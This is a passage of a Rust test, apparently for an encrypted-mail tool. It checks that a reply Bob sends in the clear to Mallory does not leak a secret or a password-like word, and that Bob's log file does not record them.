                // In the clear, to Mallory.
                draft["to"] = json!([MALLORY]);
                draft["cc"] = json!([]);
                draft["from"] = json!(BOB);
                let params = json!({"draft": draft, "answering": {"answer": opened["answer"]}, "protect": {}});
                match trio.bob.call("message/seal", params) {
                    Ok(sealed) => {
                        let bytes = trio.bob.bytes(&sealed["messages"][0]["message"].clone());
                        let read = trio.mallory.open(&bytes).unwrap();
                        let read = readable(&read["headers"]) + &readable(&read["parts"]);
                        assert!(
                            !read.contains(SECRET) && !read.contains("Plugh"),
                            "{name}, {kind}: {read}"
                        );
                    }
                    Err(fault) => assert_eq!(fault.data["path"], "/protect", "{name}: {fault:?}"),
                }
            }
        }
        assert!(
            tried > 200 && genuine > 0 && genuine < tried / 10,
            "{tried} {genuine}"
        );
        let log = trio.bob_home.path().join("log/sealpost.log");
        let log = String::from_utf8_lossy(&std::fs::read(log).unwrap()).into_owned();
        for word in [SECRET, "Plugh", MALLORY, ALICE] {
            assert!(!log.contains(word));
        }
    }
}
